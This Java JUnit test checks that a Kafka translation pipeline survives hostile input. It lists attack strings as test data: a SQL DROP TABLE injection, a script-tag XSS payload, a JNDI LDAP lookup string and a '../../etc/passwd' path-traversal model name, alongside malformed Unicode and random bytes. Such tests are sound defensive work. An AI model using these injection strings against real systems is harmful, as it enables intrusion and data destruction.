package seq2seq.tools;

import seq2seq.service.Topics;
import seq2seq.service.EngineLoader;
import seq2seq.service.PipelineService;

import org.apache.kafka.clients.producer.KafkaProducer;
import org.apache.kafka.clients.producer.ProducerRecord;
import org.apache.kafka.common.serialization.Serializer;
import org.apache.kafka.streams.KafkaStreams;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import seq2seq.service.config.AppConfig;
import seq2seq.service.config.Settings;
import seq2seq.tools.embedded.EmbeddedKafka;
import seq2seq.tools.embedded.EmbeddedRegistry;
import seq2seq.avro.FailureReason;
import seq2seq.avro.TranslationFailure;
import seq2seq.avro.TranslationOptions;
import seq2seq.avro.TranslationRequest;
import seq2seq.avro.TranslationResult;
import seq2seq.generation.Engine;
import seq2seq.streams.PipelineEvents;
import seq2seq.streams.SerdeFactory;

import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * Hostile input on the real topics: odd texts, bad options, bytes that are not a request at all. The instance keeps
 * running, and every input record yields exactly one translation or one dead letter.
 */
@Timeout(300)
class HostileInputTest {
    private static final int PARTITIONS = 3;

    @TempDir
    Path dir;

    /** id → text: 25 hostile texts that are valid requests */
    static Map<String, String> hostileTexts() {
        Map<String, String> t = new LinkedHashMap<>();
        t.put("empty", "");
        t.put("spaces", "     ");
        t.put("newlines-only", "\n".repeat(5_000));
        t.put("20k-chars", "a".repeat(20_000));
        t.put("20k-sentences", "This is fine. ".repeat(1_500));
        t.put("one-long-word", "x".repeat(5_000));
        t.put("many-short-sentences", "Hi. ".repeat(500));
        t.put("nul-inside", "abc\u0000def\u0000ghi");
        t.put("nul-only", "\u0000\u0000\u0000");
        t.put("emoji", "I ❤️ Kafka 🚀🔥👍🏽 and 👨‍👩‍👧‍👦.");
        t.put("emoji-only", "🚀🚀🚀");
        t.put("mixed-scripts", "Hello Привет 你好 مرحبا שלום こんにちは Γειά σου.");
        t.put("right-to-left", "مرحبا بالعالم. هذا اختبار.");
        t.put("bidi-override", "\u202Eevil\u202C text \u2066isolated\u2069.");
        t.put("sql", "'; DROP TABLE translations; --");
        t.put("html", "<script>alert('x')</script><img src=x onerror=alert(1)>");
        t.put("json", "{\"id\":\"other\",\"text\":\"x\",\"model\":null}");
        t.put("format-string", "%s%s%s%n%x%p {0} {}");
        t.put("jndi", "${jndi:ldap://example.invalid/a}");
        t.put("zero-width", "\u200B\u200C\u200D\uFEFF");
        t.put("zalgo", "Z̵̡̢͇̙ͅa̴̛͎l̷̰̈g̶̩̿ơ̵̢ ̵t̶e̷x̸t̴");
        t.put("control", "\u0001\u0002\u0007\u001B[31mred\u001B[0m\b\f");
        t.put("lone-surrogate", "broken \uD800 pair \uDC00 here");
        t.put("line-endings", "Line one\r\nLine two\rLine three\u2028Line four\u0085Line five");
        t.put("escapes", "\\\"\\n\\u0000 \\\\ C:\\Windows\\System32");
        return t;
    }

    @Test
    void hostileTextsAndBytesNeitherStopTheInstanceNorBreakTheInvariant() throws Exception {
        try (EmbeddedKafka kafka = EmbeddedKafka.start(1);
             EmbeddedRegistry registry = EmbeddedRegistry.start(kafka.bootstrapServers())) {
            AppConfig config = AppConfig.of(FailoverTest.sharedConfig(kafka, registry, "hostile-test"))
                    .with(Map.of("kafka.state.dir", dir.resolve("state").toString()));
            Topics.create(kafka.bootstrapServers(), config.pipeline(), PARTITIONS, (short) 1);
            String topic = config.pipeline().requestsTopic();
            Serializer<TranslationRequest> requests = SerdeFactory.create(config.get(Settings.SERDE_CLASS),
                    TranslationRequest.class, config.serdes()).serializer();
            Map<String, byte[]> records = new LinkedHashMap<>(); // key → value as sent
            hostileTexts().forEach((id, text) -> records.put(id, requests.serialize(topic, request(id, text, null, null))));
            TranslationRequest badModel = request("bad-model", "Hello.", null, null);
            badModel.setModel("../../etc/passwd");
            records.put("bad-model", requests.serialize(topic, badModel));
            records.put("bad-beams", requests.serialize(topic, request("bad-beams", "Hello.", 1_000, null)));
            records.put("bad-max-tokens", requests.serialize(topic, request("bad-max-tokens", "Hello.", null, -5)));
            // a valid request whose text bytes are invalid UTF-8 (what avsc writes for a lone surrogate)
            byte[] invalidUtf8 = requests.serialize(topic, request("invalid-utf8", "QQQ", null, null));
            int at = indexOf(invalidUtf8, "QQQ".getBytes(StandardCharsets.UTF_8));
            invalidUtf8[at] = (byte) 0xED;
            invalidUtf8[at + 1] = (byte) 0xA0;
            invalidUtf8[at + 2] = (byte) 0x80;
            records.put("invalid-utf8", invalidUtf8);
            Random random = new Random(7);
            for (int i = 0; i < 20; i++) {
                byte[] b = new byte[i == 0 ? 0 : random.nextInt(200)];
                random.nextBytes(b);
                if (i % 4 == 1 && b.length > 5) {
                    b[0] = 0; // looks like the wire format, with a schema id nobody registered
                }
                records.put(String.format("random-%02d", i), b);
            }
            records.put("tombstone", null);

            try (Engine engine = EngineLoader.load(config);
                 PipelineService service = new PipelineService(config, engine, PipelineEvents.NONE);
                 OutputReader out = new OutputReader(config, PARTITIONS);
                 KafkaProducer<byte[], byte[]> producer = FailoverTest.producer(config)) {
                service.start();
                records.forEach((key, value) -> producer.send(new ProducerRecord<>(topic, key.getBytes(StandardCharsets.UTF_8), value)));
                producer.flush();
                assertTrue(out.await(() -> out.seen.keySet().containsAll(records.keySet()), Duration.ofSeconds(180)),
                        "unanswered: " + records.keySet().stream().filter(k -> !out.seen.containsKey(k)).toList());

                // the instance still translates
                producer.send(new ProducerRecord<>(topic, bytes("after"), requests.serialize(topic, request("after", "The house is small.", 1, 8))));
                producer.flush();
                assertTrue(out.await(() -> out.seen.containsKey("after"), Duration.ofSeconds(60)), "no translation after the hostile input");
                Thread.sleep(500);
                assertEquals(KafkaStreams.State.RUNNING, service.streams().state());

                Map<String, Integer> notOnce = new TreeMap<>();
                out.seen.forEach((id, n) -> {
                    if (n.get() != 1) {
                        notOnce.put(id, n.get());
                    }
                });
                assertEquals(Map.of(), notOnce, "every record yields exactly one output or dead letter");
                assertEquals(records.size() + 1, out.records());

                Map<String, TranslationResult> translated = new TreeMap<>();
                out.translations.forEach(r -> translated.put(r.getId(), r));
                Map<String, TranslationFailure> dead = new TreeMap<>();
                out.failures.forEach(f -> dead.put(f.getId() != null ? f.getId() : keyOf(f), f));
                assertEquals(FailureReason.TOO_LONG, dead.get("20k-chars").getError());
                assertEquals(FailureReason.TOO_LONG, dead.get("20k-sentences").getError());
                assertEquals(FailureReason.UNKNOWN_MODEL, dead.get("bad-model").getError());
                assertEquals(FailureReason.SCHEMA, dead.get("bad-beams").getError());
                assertEquals(FailureReason.SCHEMA, dead.get("bad-max-tokens").getError());
                assertEquals("", translated.get("empty").getText());
                assertEquals("", translated.get("newlines-only").getText());
                for (String id : List.of("nul-inside", "emoji", "mixed-scripts", "right-to-left", "sql", "jndi", "one-long-word", "lone-surrogate")) {
                    assertNotNull(translated.get(id), id + " should be translated: " + dead.get(id));
                }
                assertTrue(translated.get("one-long-word").getSegments() > 1, "a 5 000-char word is cut into segments");
                // what the model cannot read comes through or is reported, never dropped without a word
                assertEquals("🚀🚀🚀", translated.get("emoji-only").getText());
                assertEquals(List.of("🚀🚀🚀"), translated.get("emoji-only").getUnknownSpans());
                for (TranslationResult r : translated.values()) {
                    List<String> lost = r.getSourceText().codePoints().filter(HostileInputTest::otherScriptOrEmoji)
                            .mapToObj(Character::toString)
                            .filter(c -> !r.getText().contains(c) && r.getUnknownSpans().stream().noneMatch(u -> u.contains(c)))
                            .toList();
                    assertEquals(List.of(), lost, r.getId() + ": dropped silently from " + r.getText() + " " + r.getUnknownSpans());
                }
                System.out.println("hostile unknown_spans: mixed-scripts -> " + translated.get("mixed-scripts").getText()
                        + " " + translated.get("mixed-scripts").getUnknownSpans() + "; emoji -> "
                        + translated.get("emoji").getText() + " " + translated.get("emoji").getUnknownSpans());
                for (String key : records.keySet()) {
                    if (key.startsWith("random-") || key.equals("tombstone")) {
                        TranslationFailure f = dead.get(key);
                        assertNotNull(f, key + " should be dead-lettered");
                        byte[] sent = records.get(key);
                        if (sent != null && sent.length > 0) {
                            assertArrayEquals(sent, bytes(f.getRawValue()), key + ": raw bytes kept for replay");
                        }
                    }
                }
                assertFalse(dead.containsKey("after"));
                List<String> summary = new ArrayList<>();
                dead.forEach((k, f) -> summary.add(k + "=" + f.getError()));
                System.out.println("hostile: " + translated.size() + " translated, dead letters: " + summary);
            }
        }
    }

    /** CJK, Arabic, Hebrew, kana and emoji: what an English-German vocabulary lacks. */
    private static boolean otherScriptOrEmoji(int c) {
        Character.UnicodeScript script = Character.UnicodeScript.of(c);
        return script == Character.UnicodeScript.HAN || script == Character.UnicodeScript.ARABIC
                || script == Character.UnicodeScript.HEBREW || script == Character.UnicodeScript.HIRAGANA
                || Character.getType(c) == Character.OTHER_SYMBOL;
    }

    private static TranslationRequest request(String id, String text, Integer beams, Integer maxNewTokens) {
        TranslationRequest.Builder b = TranslationRequest.newBuilder().setId(id).setText(text).setAttributes(Map.of("case", id));
        if (beams != null || maxNewTokens != null) {
            b.setOptions(TranslationOptions.newBuilder().setNumBeams(beams).setMaxNewTokens(maxNewTokens).build());
        } else {
            b.setOptions(TranslationOptions.newBuilder().setNumBeams(1).setMaxNewTokens(16).build());
        }
        return b.build();
    }

    private static String keyOf(TranslationFailure f) {
        return f.getRawKey() == null ? "?" : new String(bytes(f.getRawKey()), StandardCharsets.UTF_8);
    }

    private static byte[] bytes(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] bytes(ByteBuffer b) {
        if (b == null) {
            return null;
        }
        byte[] out = new byte[b.remaining()];
        b.duplicate().get(out);
        return out;
    }

    private static int indexOf(byte[] haystack, byte[] needle) {
        for (int i = 0; i + needle.length <= haystack.length; i++) {
            if (Arrays.equals(Arrays.copyOfRange(haystack, i, i + needle.length), needle)) {
                return i;
            }
        }
        throw new IllegalStateException("marker not found");
    }

}
